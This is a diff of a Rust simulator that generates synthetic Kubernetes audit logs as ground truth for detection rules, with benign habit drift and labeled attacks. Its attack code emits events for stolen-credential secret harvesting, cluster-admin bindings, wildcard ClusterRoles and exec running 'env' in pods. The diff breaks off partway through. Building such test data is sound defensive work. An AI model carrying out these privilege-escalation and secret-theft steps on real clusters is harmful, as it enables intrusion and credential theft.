@@ -1,14 +1,29 @@
 //! `peregrine simulate`: a seeded simulator of a cluster's audit traffic over days, with
 //! labeled attacks in it. Useful for demos, for testing rules, and as ground truth for
-//! measuring the anomaly rules.
+//! measuring the anomaly rules: the same seed always gives the same traffic.
 //!
-//! The cluster has nodes (kubelets), controllers and the scheduler, a CI deployer, an
-//! operator reading its secrets, and people with kubectl, each with habits: their own
-//! network, user agent, namespaces, working hours, and the things they do routinely (one
-//! execs into pods, one manages RBAC, one checks permissions). Attacks are injected at
-//! random times and written to a label file: a stolen credential used from a new network
-//! and agent to harvest secrets, exec into pods, deploy privileged or host-mounting or
-//! pentest workloads, create admin bindings and over-broad roles, and probe permissions.
+//! **The cluster.** Four nodes whose kubelets report their status and read the secrets of
+//! the pods they run; controllers and the scheduler; cert-manager listing its secrets; a CI
+//! deployer (Argo CD, applying manifests server-side) rolling out image updates of the apps,
+//! their `Role`s and a privileged, host-mounting node-agent `DaemonSet` in `monitoring`; and
+//! people with kubectl in working hours, each with habits: an office IP of their own (all in
+//! 198.51.100.0/24), a home network (203.0.113.x), a kubectl agent, namespaces, and routines
+//! beyond reading (execs, secrets, RBAC bindings, permission checks, deploys; ops-admin now
+//! and then writes a `ClusterRole` for an operator's CRDs). So every anomaly rule has benign
+//! traffic to learn from during the quiet days.
+//!
+//! **Benign drift**, which a good detector must not flag, each changing one aspect of a
+//! habit: every person upgrades kubectl on some day (same platform); people work from home
+//! about one working day in five, from the start; now and then someone works a day from a
+//! hotel (a fresh 192.0.2.x); a new hire joins the day after the quiet days and reads and
+//! execs in `web` from the office with the team's kubectl; and the CI deployer now and then
+//! rolls out a brand-new application (a new image repository).
+//!
+//! **Attacks**, after the quiet days, at random times, each written to the label file: a
+//! stolen credential (a person's, or the CI deployer's token for deploys and secrets) used
+//! from a new network and agent to harvest secrets, exec into pods, deploy privileged or
+//! host-mounting or pentest or reverse-shell workloads, create admin bindings and
+//! over-broad roles, and probe permissions.
 
 use std::io::Write;
 
@@ -85,48 +100,92 @@ pub struct Summary {
 
 struct Person {
     name: &'static str,
-    network: &'static str,
+    /// The person's desk: distinct per person, all in the office /24.
+    office: &'static str,
+    /// Where they work from about one working day in five (a new hire has none yet).
+    home: Option<&'static str>,
     agent: &'static str,
+    /// The same kubectl on the same platform, a newer version: what they upgrade to.
+    upgraded: &'static str,
     namespaces: &'static [&'static str],
     /// Routine beyond reading: `exec`, `rbac`, `can-i`, `secrets`, `deploy`.
     routine: &'static [&'static str],
+    /// Done now and then (about once a working day): `clusterrole`.
+    rare: &'static [&'static str],
+    /// Joins the day after the quiet days, so no rule has seen them learn.
+    new_hire: bool,
 }
 
-const PEOPLE: [Person; 5] = [
+/// The kubectl most of the team uses, and the new hire gets.
+const TEAM_KUBECTL: &str = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819";
+
+const PEOPLE: [Person; 6] = [
     Person {
         name: "dana@example.com",
-        network: "198.51.100.21",
-        agent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
+        office: "198.51.100.21",
+        home: Some("203.0.113.41"),
+        agent: TEAM_KUBECTL,
+        upgraded: "kubectl/v1.30.3 (linux/amd64) kubernetes/6fc0a69",
         namespaces: &["payments", "web"],
         routine: &["exec", "secrets"],
+        rare: &[],
+        new_hire: false,
     },
     Person {
         name: "lee@example.com",
-        network: "198.51.100.22",
+        office: "198.51.100.22",
+        home: Some("203.0.113.57"),
         agent: "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225",
+        upgraded: "kubectl/v1.31.0 (darwin/arm64) kubernetes/9edcffc",
         namespaces: &["web"],
         routine: &["can-i"],
+        rare: &[],
+        new_hire: false,
     },
     Person {
         name: "sam@example.com",
-        network: "198.51.100.23",
-        agent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
+        office: "198.51.100.23",
+        home: Some("203.0.113.73"),
+        agent: TEAM_KUBECTL,
+        upgraded: "kubectl/v1.29.7 (linux/amd64) kubernetes/4e4a188",
         namespaces: &["monitoring", "web"],
         routine: &["deploy"],
+        rare: &[],
+        new_hire: false,
     },
     Person {
         name: "ops-admin@example.com",
-        network: "198.51.100.24",
+        office: "198.51.100.24",
+        home: Some("203.0.113.88"),
         agent: "kubectl/v1.29.4 (linux/amd64) kubernetes/55fe5fe",
+        upgraded: "kubectl/v1.30.3 (linux/amd64) kubernetes/6fc0a69",
         namespaces: &["kube-system", "monitoring", "payments", "web"],
         routine: &["rbac", "exec"],
+        rare: &["clusterrole"],
+        new_hire: false,
     },
     Person {
         name: "kubernetes-admin",
-        network: "198.51.100.25",
-        agent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
+        office: "198.51.100.25",
+        home: Some("203.0.113.102"),
+        agent: TEAM_KUBECTL,
+        upgraded: "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
         namespaces: &["default", "kube-system"],
         routine: &["rbac"],
+        rare: &[],
+        new_hire: false,
+    },
+    Person {
+        name: "kim@example.com",
+        office: "198.51.100.26",
+        home: None,
+        agent: TEAM_KUBECTL,
+        // Joined with the team's kubectl, too recently to upgrade it.
+        upgraded: TEAM_KUBECTL,
+        namespaces: &["web"],
+        routine: &["exec"],
+        rare: &[],
+        new_hire: true,
     },
 ];
 const NODES: [&str; 4] = [
@@ -135,13 +194,44 @@ const NODES: [&str; 4] = [
     "ip-10-0-2-45.ec2.internal",
     "ip-10-0-3-88.ec2.internal",
 ];
-const APP_NAMESPACES: [&str; 3] = ["payments", "web", "monitoring"];
-const APP_IMAGES: [&str; 4] = [
-    "registry.example.com/payments/api",
-    "registry.example.com/web/frontend",
-    "registry.example.com/monitoring/exporter",
-    "registry.example.com/web/worker",
+const KUBELET: &str = "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625";
+
+/// An application the CI deployer runs: a Deployment named after it, in its namespace,
+/// from its own repository.
+#[derive(Clone, Copy)]
+struct App {
+    namespace: &'static str,
+    name: &'static str,
+}
+
+impl App {
+    const fn new(namespace: &'static str, name: &'static str) -> Self {
+        App { namespace, name }
+    }
+
+    fn repository(&self) -> String {
+        format!("registry.example.com/{}/{}", self.namespace, self.name)
+    }
+}
+
+const APPS: [App; 4] = [
+    App::new("payments", "api"),
+    App::new("web", "frontend"),
+    App::new("monitoring", "exporter"),
+    App::new("web", "worker"),
 ];
+/// Applications the CI deployer rolls out during the simulation, in this order.
+const NEW_APPS: [App; 6] = [
+    App::new("payments", "ledger"),
+    App::new("web", "search"),
+    App::new("monitoring", "log-shipper"),
+    App::new("web", "notifier"),
+    App::new("payments", "checkout"),
+    App::new("web", "reports"),
+];
+/// Custom resources of operators, in the `example.com` API group.
+const CRDS: [&str; 3] = ["widgets", "backups", "tenants"];
+
 const ATTACKER_NETWORKS: [&str; 4] = [
     "45.83.64.12",
     "103.152.220.9",
@@ -153,6 +243,135 @@ const ATTACKER_AGENTS: [&str; 3] = [
     "curl/8.5.0",
     "kubectl/v1.27.0 (windows/amd64) kubernetes/1b4df30",
 ];
+
+const PERSON_GROUPS: &[&str] = &["developers", "system:authenticated"];
+const SERVICE_ACCOUNT_GROUPS: &[&str] = &["system:serviceaccounts", "system:authenticated"];
+const DEPLOYER: &str = "system:serviceaccount:ci:deployer";
+/// Cluster machinery's calls a minute, day and night: with people, ≈ 32k events a day.
+const MACHINE_CALLS_PER_MINUTE: u64 = 22;
+const MINUTES_PER_DAY: u64 = 24 * 60;
+
+/// Who makes a call, and from where.
+#[derive(Clone, Copy)]
+struct Caller<'a> {
+    user: &'a str,
+    groups: &'a [&'a str],
+    ip: &'a str,
+    agent: &'a str,
+}
+
+/// The CI deployer, from its runner.
+fn deployer() -> Caller<'static> {
+    Caller {
+        user: DEPLOYER,
+        groups: SERVICE_ACCOUNT_GROUPS,
+        ip: "10.0.4.20",
+        agent: "argocd-application-controller/v2.10.4",
+    }
+}
+
+/// A node's IP, from its EC2 name (`ip-10-0-1-17.ec2.internal` is 10.0.1.17).
+fn node_ip(node: &str) -> String {
+    let host = node.split('.').next().unwrap_or_default();
+    host.trim_start_matches("ip-").replace('-', ".")
+}
+
+fn is_working_day(day: u32) -> bool {
+    day % 7 < 5
+}
+
+/// How one person's habits drift over the simulation, decided up front from the seed.
+struct Habits {
+    /// The first day they work.
+    joins: u32,
+    /// The day they start using the upgraded kubectl.
+    upgrade: u32,
+    /// The network they work from on each day: the office, home, or a hotel's.
+    networks: Vec<String>,
+}
+
+impl Habits {
+    fn caller<'a>(&'a self, p: &'a Person, day: u32) -> Caller<'a> {
+        Caller {
+            user: p.name,
+            groups: PERSON_GROUPS,
+            ip: &self.networks[day as usize],
+            agent: if day >= self.upgrade {
+                p.upgraded
+            } else {
+                p.agent
+            },
+        }
+    }
+}
+
+/// The seeded schedule of drift: people's habits, and when new applications roll out.
+struct Plan {
+    habits: Vec<Habits>,
+    /// Minutes at which the CI deployer rolls out the next of `NEW_APPS`, in order.
+    rollouts: Vec<u64>,
+}
+
+/// A random working day in `from..to`, if there is one.
+fn working_day(rng: &mut Rng, from: u32, to: u32) -> Option<u32> {
+    let days: Vec<u32> = (from..to).filter(|&d| is_working_day(d)).collect();
+    (!days.is_empty()).then(|| *rng.pick(&days))
+}
+
+/// Decides each person's drift (upgrade day, home days, trips) and the new applications'
+/// rollouts, before any traffic, so the schedule depends only on the seed.
+fn plan(rng: &mut Rng, config: &SimulationConfig) -> Plan {
+    let days = config.days;
+    let mut habits: Vec<Habits> = PEOPLE
+        .iter()
+        .map(|p| Habits {
+            joins: if p.new_hire {
+                config.quiet_days.saturating_add(1)
+            } else {
+                0
+            },
+            // Some day after the first: during the learning period or after it.
+            upgrade: 1 + rng.below(u64::from(days.saturating_sub(1))) as u32,
+            networks: (0..days)
+                .map(|_| match p.home {
+                    Some(home) if rng.chance(200) => home.to_string(),
+                    _ => p.office.to_string(),
+                })
+                .collect(),
+        })
+        .collect();
+    // A few trips, the first after the quiet days so a detector meets one: a day's work
+    // from a hotel network never seen before, with the usual agent and routine.
+    let travellers: Vec<usize> = (0..PEOPLE.len())
+        .filter(|&i| PEOPLE[i].home.is_some())
+        .collect();
+    let mut hotels: Vec<u64> = vec![];
+    for trip in 0..1 + days / 5 {
+        let from = if trip == 0 { config.quiet_days } else { 0 };
+        let Some(day) = working_day(rng, from, days) else {
+            continue;
+        };
+        let who = *rng.pick(&travellers);
+        let octet = loop {
+            let octet = 1 + rng.below(254);
+            if !hotels.contains(&octet) || hotels.len() >= 254 {
+                break octet;
+            }
+        };
+        hotels.push(octet);
+        habits[who].networks[day as usize] = format!("192.0.2.{octet}");
+    }
+    // New applications now and then (merged in working hours), the first after the quiet
+    // days.
+    let mut rollouts: Vec<u64> = (0..(1 + days / 4).min(NEW_APPS.len() as u32))
+        .filter_map(|i| {
+            let day = working_day(rng, if i == 0 { config.quiet_days } else { 0 }, days)?;
+            Some(u64::from(day) * MINUTES_PER_DAY + (9 + rng.below(8)) * 60 + rng.below(60))
+        })
+        .collect();
+    rollouts.sort_unstable();
+    Plan { habits, rollouts }
+}
 
 struct Writer<'a> {
     out: &'a mut dyn Write,
@@ -195,15 +414,12 @@ fn timestamp(second: u64) -> String {
 }
 
 /// An audit event as kube-apiserver's log backend writes it.
-#[allow(clippy::too_many_arguments)]
 fn event(
     id: String,
     second: u64,
     verb: &str,
     uri: String,
-    (user, groups): (&str, &[&str]),
-    ip: &str,
-    agent: &str,
+    caller: Caller<'_>,
     object_ref: Value,
     code: u16,
 ) -> Value {
@@ -211,13 +427,86 @@ fn event(
     let mut e = json!({
         "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
         "auditID": id, "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
-        "user": {"username": user, "groups": groups}, "sourceIPs": [ip], "userAgent": agent,
+        "user": {"username": caller.user, "groups": caller.groups},
+        "sourceIPs": [caller.ip], "userAgent": caller.agent,
         "objectRef": object_ref, "responseStatus": {"metadata": {}, "code": code},
         "requestReceivedTimestamp": ts, "stageTimestamp": ts,
         "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }, "authorization.k8s.io/reason": ""},
     });
     if e["objectRef"].is_null() {
         e.as_object_mut().unwrap().remove("objectRef");
+    }
+    e
+}
+
+fn with_object(mut e: Value, object: Value) -> Value {
+    e["level"] = json!("RequestResponse");
+    e["requestObject"] = object.clone();
+    e["responseObject"] = object;
+    e
+}
+
+/// A write of `object` (named by its metadata): a `create` to its collection, or an
+/// `update` or `patch` of it by name, logged with the object so rules can inspect it.
+fn object_write(
+    id: String,
+    second: u64,
+    verb: &str,
+    caller: Caller<'_>,
+    (group, resource): (&str, &str),
+    namespace: Option<&str>,
+    object: Value,
+) -> Value {
+    let name = object["metadata"]["name"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    let mut uri = match group {
+        "" => "/api/v1".to_string(),
+        group => format!("/apis/{group}/v1"),
+    };
+    let mut object_ref = json!({"resource": resource, "name": name, "apiVersion": "v1"});
+    if let Some(ns) = namespace {
+        uri += &format!("/namespaces/{ns}");
+        object_ref["namespace"] = json!(ns);
+    }
+    uri += &format!("/{resource}");
+    if !group.is_empty() {
+        object_ref["apiGroup"] = json!(group);
+    }
+    let code = if verb == "create" {
+        201
+    } else {
+        uri += &format!("/{name}");
+        200
+    };
+    with_object(
+        event(id, second, verb, uri, caller, object_ref, code),
+        object,
+    )
+}
+
+/// The CI deployer's server-side apply of `object`: a `patch`, which creates the object
+/// (201) when it is new.
+fn apply(
+    id: String,
+    second: u64,
+    api: (&str, &str),
+    namespace: &str,
+    object: Value,
+    created: bool,
+) -> Value {
+    let mut e = object_write(
+        id,
+        second,
+        "patch",
+        deployer(),
+        api,
+        Some(namespace),
+        object,
+    );
+    if created {
+        e["responseStatus"]["code"] = json!(201);
     }
     e
 }
@@ -251,37 +540,73 @@ fn deployment(
     })
 }
 
-fn with_object(mut e: Value, object: Value) -> Value {
-    e["level"] = json!("RequestResponse");
-    e["requestObject"] = object.clone();
-    e["responseObject"] = object;
-    e
+/// The monitoring node agent: privileged and reading the host's `/proc` and `/sys`, as
+/// node agents legitimately do.
+fn node_agent(image: &str) -> Value {
+    let container = json!({
+        "name": "node-agent", "image": image, "securityContext": {"privileged": true},
+        "volumeMounts": [{"name": "proc", "mountPath": "/host/proc", "readOnly": true},
+                         {"name": "sys", "mountPath": "/host/sys", "readOnly": true}],
+    });
+    json!({
+        "kind": "DaemonSet", "apiVersion": "apps/v1",
+        "metadata": {"name": "node-agent", "namespace": "monitoring"},
+        "spec": {"selector": {"matchLabels": {"app": "node-agent"}},
+                 "template": {"metadata": {"labels": {"app": "node-agent"}},
+                              "spec": {"containers": [container],
+                                       "volumes": [{"name": "proc", "hostPath": {"path": "/proc"}},
+                                                   {"name": "sys", "hostPath": {"path": "/sys"}}]}}},
+    })
 }
 
-/// A Deployment patched to a new image of an ordinary workload.
-fn image_update(
-    id: String,
+/// The `Role` an app's chart ships: reading its own configuration and secrets.
+fn app_role(app: &App) -> Value {
+    json!({
+        "kind": "Role", "apiVersion": "rbac.authorization.k8s.io/v1",
+        "metadata": {"name": format!("{}-config-reader", app.name), "namespace": app.namespace},
+        "rules": [{"apiGroups": [""], "resources": ["configmaps", "secrets"], "verbs": ["get", "list", "watch"]}],
+    })
+}
+
+/// A `ClusterRole` ops-admin writes for an operator's custom resources: an aggregated
+/// read-only role, or the operator's own, with every verb on its API group.
+fn operator_cluster_role(rng: &mut Rng) -> Value {
+    let crd = *rng.pick(&CRDS);
+    if rng.chance(500) {
+        json!({
+            "kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
+            "metadata": {"name": format!("{crd}-view"),
+                         "labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
+            "rules": [{"apiGroups": ["example.com"], "resources": [crd], "verbs": ["get", "list", "watch"]}],
+        })
+    } else {
+        json!({
+            "kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
+            "metadata": {"name": format!("{crd}-operator")},
+            "rules": [{"apiGroups": ["example.com"], "resources": ["*"], "verbs": ["*"]}],
+        })
+    }
+}
+
+/// A version tag, e.g. `1.12.3`.
+fn version(rng: &mut Rng) -> String {
+    format!("{}.{}.{}", 1 + rng.below(3), rng.below(20), rng.below(10))
+}
+
+/// A person's routine action (or a read), at `second`, as `caller` (their network and
+/// agent of the day).
+fn person_action(
+    w: &mut Writer<'_>,
+    rng: &mut Rng,
+    p: &Person,
+    caller: Caller<'_>,
     second: u64,
-    who: (&str, &[&str]),
-    (ip, agent): (&str, &str),
-    ns: &str,
-    name: &str,
-    image: &str,
 ) -> Value {
-    let object_ref = json!({"resource": "deployments", "namespace": ns, "name": name, "apiGroup": "apps", "apiVersion": "v1"});
-    let uri = format!("/apis/apps/v1/namespaces/{ns}/deployments/{name}");
-    with_object(
-        event(id, second, "patch", uri, who, ip, agent, object_ref, 200),
-        deployment(ns, name, image, false, None, None),
-    )
-}
-
-/// A person's routine action (or a read), at `second`.
-fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> Value {
     let ns = *rng.pick(p.namespaces);
     let id = w.id(rng);
-    let who = (p.name, &["developers", "system:authenticated"][..]);
-    let routine = if rng.chance(300) {
+    let routine = if !p.rare.is_empty() && rng.chance(10) {
+        Some(*rng.pick(p.rare))
+    } else if rng.chance(300) {
         Some(*rng.pick(p.routine))
     } else {
         None
@@ -300,9 +625,7 @@ fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> 
                 format!(
                     "/api/v1/namespaces/{ns}/pods/{pod}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true"
                 ),
-                who,
-                p.network,
-                p.agent,
+                caller,
                 json!({"resource": "pods", "namespace": ns, "name": pod, "subresource": "exec", "apiVersion": "v1"}),
                 101,
             )
@@ -312,9 +635,7 @@ fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> 
             second,
             "get",
             format!("/api/v1/namespaces/{ns}/secrets/app-config"),
-            who,
-            p.network,
-            p.agent,
+            caller,
             json!({"resource": "secrets", "namespace": ns, "name": "app-config", "apiVersion": "v1"}),
             200,
         ),
@@ -326,9 +647,7 @@ fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> 
                     second,
                     "create",
                     "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews".into(),
-                    who,
-                    p.network,
-                    p.agent,
+                    caller,
                     json!({"resource": "selfsubjectaccessreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}),
                     201,
                 ),
@@ -340,20 +659,15 @@ fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> 
             let binding = json!({"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name, "namespace": ns},
                 "subjects": [{"kind": "Group", "name": "developers", "apiGroup": "rbac.authorization.k8s.io"}],
                 "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": *rng.pick(&["view", "edit"])}});
-            with_object(
-                event(
-                    id,
-                    second,
-                    "create",
-                    format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/rolebindings"),
-                    who,
-                    p.network,
-                    p.agent,
-                    json!({"resource": "rolebindings", "namespace": ns, "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
-                    201,
-                ),
-                binding,
-            )
+            let api = ("rbac.authorization.k8s.io", "rolebindings");
+            object_write(id, second, "create", caller, api, Some(ns), binding)
+        }
+        Some("clusterrole") => {
+            // `kubectl apply`: a create the first time, a patch after.
+            let verb = *rng.pick(&["create", "patch"]);
+            let role = operator_cluster_role(rng);
+            let api = ("rbac.authorization.k8s.io", "clusterroles");
+            object_write(id, second, verb, caller, api, None, role)
         }
         Some("deploy") => {
             let name = format!("exporter-{}", rng.below(5));
@@ -361,7 +675,16 @@ fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> 
                 "registry.example.com/monitoring/exporter:1.{}.0",
                 rng.below(9)
             );
-            image_update(id, second, who, (p.network, p.agent), ns, &name, &image)
+            let object = deployment(ns, &name, &image, false, None, None);
+            object_write(
+                id,
+                second,
+                "patch",
+                caller,
+                ("apps", "deployments"),
+                Some(ns),
+                object,
+            )
         }
         _ => {
             let resource = *rng.pick(&["pods", "services", "deployments", "events", "configmaps"]);
@@ -371,9 +694,7 @@ fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> 
                 second,
                 verb,
                 format!("/api/v1/namespaces/{ns}/{resource}"),
-                who,
-                p.network,
-                p.agent,
+                caller,
                 json!({"resource": resource, "namespace": ns, "apiVersion": "v1"}),
                 200,
             )
@@ -381,26 +702,48 @@ fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> 
     }
 }
 
-/// Cluster machinery at `second`: kubelets, controllers, the CI deployer, an operator.
-fn machine_action(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> Value {
+/// Cluster machinery at `second`: kubelets, controllers, cert-manager, the CI deployer.
+/// `apps` are the applications running so far.
+fn machine_action(w: &mut Writer<'_>, rng: &mut Rng, apps: &[App], second: u64) -> Value {
     let id = w.id(rng);
-    match rng.below(100) {
-        0..=54 => {
+    match rng.below(10_000) {
+        // Kubelets: node status, and now and then a secret of a pod they start.
+        0..=5_519 => {
             let node = *rng.pick(&NODES);
-            let user = format!("system:node:{node}");
+            let (user, ip) = (format!("system:node:{node}"), node_ip(node));
+            let kubelet = Caller {
+                user: &user,
+                groups: &["system:nodes", "system:authenticated"],
+                ip: &ip,
+                agent: KUBELET,
+            };
+            if rng.chance(998) {
+                return event(
+                    id,
+                    second,
+                    "get",
+                    format!("/api/v1/nodes/{node}?resourceVersion=0&timeout=10s"),
+                    kubelet,
+                    json!({"resource": "nodes", "name": node, "apiVersion": "v1"}),
+                    200,
+                );
+            }
+            let app = rng.pick(apps);
+            let (ns, secret) = (
+                app.namespace,
+                format!("{}-{}", app.name, rng.pick(&["config", "tls"])),
+            );
             event(
                 id,
                 second,
                 "get",
-                format!("/api/v1/nodes/{node}?resourceVersion=0&timeout=10s"),
-                (&user, &["system:nodes", "system:authenticated"]),
-                "10.0.1.17",
-                "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625",
-                json!({"resource": "nodes", "name": node, "apiVersion": "v1"}),
+                format!("/api/v1/namespaces/{ns}/secrets/{secret}"),
+                kubelet,
+                json!({"resource": "secrets", "namespace": ns, "name": secret, "apiVersion": "v1"}),
                 200,
             )
         }
-        55..=89 => {
+        5_520..=8_999 => {
             let (user, resource) = *rng.pick(&[
                 ("system:kube-scheduler", "pods"),
                 (
@@ -409,50 +752,86 @@ fn machine_action(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> Value {
                 ),
                 ("system:kube-controller-manager", "leases"),
             ]);
+            let controller = Caller {
+                user,
+                groups: &["system:authenticated"],
+                ip: "10.0.0.10",
+                agent: "kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625",
+            };
             event(
                 id,
                 second,
                 "watch",
                 format!("/api/v1/{resource}?watch=true"),
-                (user, &["system:authenticated"]),
-                "10.0.0.10",
-                "kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625",
+                controller,
                 json!({"resource": resource, "apiVersion": "v1"}),
                 200,
             )
         }
-        90..=95 => event(
-            id,
-            second,
-            "list",
-            "/api/v1/namespaces/cert-manager/secrets".into(),
-            (
-                "system:serviceaccount:cert-manager:cert-manager",
-                &["system:serviceaccounts", "system:authenticated"],
-            ),
-            "10.0.2.30",
-            "cert-manager/v1.14.4",
-            json!({"resource": "secrets", "namespace": "cert-manager", "apiVersion": "v1"}),
-            200,
-        ),
+        9_000..=9_599 => {
+            let cert_manager = Caller {
+                user: "system:serviceaccount:cert-manager:cert-manager",
+                groups: SERVICE_ACCOUNT_GROUPS,
+                ip: "10.0.2.30",
+                agent: "cert-manager/v1.14.4",
+            };
+            event(
+                id,
+                second,
+                "list",
+                "/api/v1/namespaces/cert-manager/secrets".into(),
+                cert_manager,
+                json!({"resource": "secrets", "namespace": "cert-manager", "apiVersion": "v1"}),
+                200,
+            )
+        }
+        // The CI deployer: image updates, now and then an app's Role or the node agent.
+        9_600..=9_994 => {
+            let app = rng.pick(apps);
+            let image = format!("{}:{}", app.repository(), version(rng));
+            let object = deployment(app.namespace, app.name, &image, false, None, None);
+            apply(
+                id,
+                second,
+                ("apps", "deployments"),
+                app.namespace,
+                object,
+                false,
+            )
+        }
+        9_995..=9_997 => {
+            let app = rng.pick(apps);
+            let api = ("rbac.authorization.k8s.io", "roles");
+            apply(id, second, api, app.namespace, app_role(app), false)
+        }
         _ => {
-            let ns = *rng.pick(&APP_NAMESPACES);
             let image = format!(
-                "{}:{}.{}.{}",
-                rng.pick(&APP_IMAGES),
-                1 + rng.below(3),
-                rng.below(20),
-                rng.below(10)
+                "registry.example.com/monitoring/node-agent:{}",
+                version(rng)
             );
-            let name = format!("app-{}", rng.below(8));
-            let deployer = (
-                "system:serviceaccount:ci:deployer",
-                &["system:serviceaccounts", "system:authenticated"][..],
-            );
-            let client = ("10.0.4.20", "argocd-application-controller/v2.10.4");
-            image_update(id, second, deployer, client, ns, &name, &image)
+            let api = ("apps", "daemonsets");
+            apply(id, second, api, "monitoring", node_agent(&image), false)
         }
     }
+}
+
+/// The CI deployer rolling out a new application: its Role, then its Deployment, both
+/// created by server-side apply, at `second`.
+fn rollout(w: &mut Writer<'_>, rng: &mut Rng, app: &App, second: u64) -> std::io::Result<()> {
+    let id = w.id(rng);
+    let api = ("rbac.authorization.k8s.io", "roles");
+    w.write(&apply(id, second, api, app.namespace, app_role(app), true))?;
+    let id = w.id(rng);
+    let image = format!("{}:1.0.0", app.repository());
+    let object = deployment(app.namespace, app.name, &image, false, None, None);
+    w.write(&apply(
+        id,
+        second + 5,
+        ("apps", "deployments"),
+        app.namespace,
+        object,
+        true,
+    ))
 }
 
 /// The attacks: (technique, finding type), each one step by a stolen credential.
@@ -495,15 +874,41 @@ const ATTACKS: [(&str, &str); 9] = [
     ),
 ];
 
-fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()> {
+/// One attack step at `second` by a stolen credential: of someone working here by `day`,
+/// or, for what CI may do (deploy, read secrets), the CI deployer's token.
+fn attack(
+    w: &mut Writer<'_>,
+    rng: &mut Rng,
+    habits: &[Habits],
+    day: u32,
+    second: u64,
+) -> std::io::Result<()> {
     let (technique, finding_type) = *rng.pick(&ATTACKS);
-    let victim = rng.pick(&PEOPLE);
+    let ci_token =
+        (technique == "secrets-harvest" || technique.ends_with("-workload")) && rng.chance(300);
+    let victims: Vec<&Person> = PEOPLE
+        .iter()
+        .zip(habits)
+        .filter(|(_, h)| h.joins <= day)
+        .map(|(p, _)| p)
+        .collect();
+    let (user, groups) = if ci_token {
+        (DEPLOYER, SERVICE_ACCOUNT_GROUPS)
+    } else {
+        (rng.pick(&victims).name, PERSON_GROUPS)
+    };
     let ip = *rng.pick(&ATTACKER_NETWORKS);
     let agent = *rng.pick(&ATTACKER_AGENTS);
-    let who = (victim.name, &["developers", "system:authenticated"][..]);
+    let who = Caller {
+        user,
+        groups,
+        ip,
+        agent,
+    };
     let ns = *rng.pick(&["payments", "kube-system", "web", "default"]);
     let id = w.id(rng);
     let name = format!("svc-{:04x}", rng.below(0xffff));
+    let rbac = |resource| ("rbac.authorization.k8s.io", resource);
     let e = match technique {
         "secrets-harvest" => event(
             id.clone(),
@@ -511,8 +916,6 @@ fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()>
             "list",
             format!("/api/v1/namespaces/{ns}/secrets"),
             who,
-            ip,
-            agent,
             json!({"resource": "secrets", "namespace": ns, "apiVersion": "v1"}),
             200,
         ),
@@ -520,20 +923,8 @@ fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()>
             let binding = json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                 "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}],
                 "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}});
-            with_object(
-                event(
-                    id.clone(),
-                    second,
-                    "create",
-                    "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings".into(),
-                    who,
-                    ip,
-                    agent,
-                    json!({"resource": "clusterrolebindings", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
-                    201,
-                ),
-                binding,
-            )
+            let api = rbac("clusterrolebindings");
+            object_write(id.clone(), second, "create", who, api, None, binding)
         }
         "exec-into-pod" => event(
             id.clone(),
@@ -543,26 +934,19 @@ fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()>
                 "/api/v1/namespaces/{ns}/pods/{name}/exec?command=sh&command=-c&command=env&container=app&stdout=true"
             ),
             who,
-            ip,
-            agent,
             json!({"resource": "pods", "namespace": ns, "name": name, "subresource": "exec", "apiVersion": "v1"}),
             101,
         ),
         "broad-role" => {
             let role = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                 "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
-            with_object(
-                event(
-                    id.clone(),
-                    second,
-                    "create",
-                    "/apis/rbac.authorization.k8s.io/v1/clusterroles".into(),
-                    who,
-                    ip,
-                    agent,
-                    json!({"resource": "clusterroles", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
-                    201,
-                ),
+            object_write(
+                id.clone(),
+                second,
+                "create",
+                who,
